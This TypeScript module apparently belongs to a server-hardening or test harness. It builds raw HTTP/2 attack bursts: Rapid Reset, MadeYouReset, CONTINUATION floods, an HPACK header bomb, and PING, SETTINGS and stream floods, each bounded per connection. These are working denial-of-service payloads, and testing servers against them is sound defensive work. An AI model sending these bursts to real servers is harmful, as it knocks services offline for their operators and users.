import { FLAG, frame, requestBlock, TYPE } from "../clients/frames.ts";

/** What a hostile client sends after its settings. */
export interface Attack {
  readonly name: string;
  readonly title: string;
  /** The bytes of one connection. */
  burst(): Buffer;
}

const BLOCK = requestBlock("/small.grpc");
const UNKNOWN_TYPE = 0xbe;

/** Each is bounded: so many frames on a connection, ten connections a second. */
export const ATTACKS: readonly Attack[] = [
  {
    name: "rapid_reset",
    title: "Rapid reset (CVE-2023-44487), 5 000 a connection",
    burst: () =>
      streams(5_000, (stream) => [
        request(stream),
        frame({ type: TYPE.reset, stream }, uint32(8)), // CANCEL
      ]),
  },
  {
    name: "made_you_reset",
    title: "MadeYouReset (CVE-2025-8671), 3 000 a connection",
    burst: () =>
      streams(3_000, (stream) => [
        request(stream),
        frame({ type: TYPE.windowUpdate, stream }, uint32(0)),
      ]),
  },
  {
    name: "continuation_flood",
    title: "Header blocks without end, 3 000 CONTINUATION a connection",
    burst: () =>
      Buffer.concat([
        frame({ type: TYPE.headers, stream: 1 }, BLOCK),
        ...repeat(3_000, { type: TYPE.continuation, stream: 1 }, [0, 1, 97]),
      ]),
  },
  {
    name: "header_bomb",
    title: "HPACK bombs, 20 × 8 000 references to 3.9 KB",
    burst: headerBomb,
  },
  {
    name: "ping_flood",
    title: "20 000 PING a connection",
    burst: () =>
      Buffer.concat(repeat(20_000, { type: TYPE.ping }, new Array(8).fill(1))),
  },
  {
    name: "settings_flood",
    title: "20 000 SETTINGS a connection",
    burst: () => Buffer.concat(repeat(20_000, { type: TYPE.settings }, [])),
  },
  {
    name: "unknown_flood",
    title: "20 000 frames of an unknown type a connection",
    burst: () => Buffer.concat(repeat(20_000, { type: UNKNOWN_TYPE }, [])),
  },
  {
    name: "open_streams",
    title: "3 000 requests without end a connection",
    burst: () => streams(3_000, (stream) => [request(stream)]),
  },
];

/** Inserts one large field, then names it over and over. */
function headerBomb(): Buffer {
  const name = Buffer.of(0x40, 1, 0x78); // x, with indexing
  const length = Buffer.of(0x7f, 0xbd, 0x1d); // 3 900 = 127 + 61 + 29 × 128
  const insert = Buffer.concat([BLOCK, name, length, Buffer.alloc(3_900, 97)]);
  const refer = Buffer.concat([BLOCK, Buffer.alloc(8_000, 0xbe)]); // entry 62
  return streams(21, (stream) => [
    frame(
      { type: TYPE.headers, flags: FLAG.endHeaders, stream },
      stream === 1 ? insert : refer,
    ),
  ]);
}

function request(stream: number): Buffer {
  return frame({ type: TYPE.headers, flags: FLAG.endHeaders, stream }, BLOCK);
}

function streams(
  count: number,
  of: (stream: number) => readonly Buffer[],
): Buffer {
  return Buffer.concat(
    Array.from({ length: count }, (_, i) => of(2 * i + 1)).flat(),
  );
}

function repeat(
  count: number,
  head: { readonly type: number; readonly stream?: number },
  payload: readonly number[],
): Buffer[] {
  const one = frame(head, Buffer.from(payload));
  return Array.from({ length: count }, () => one);
}

function uint32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}
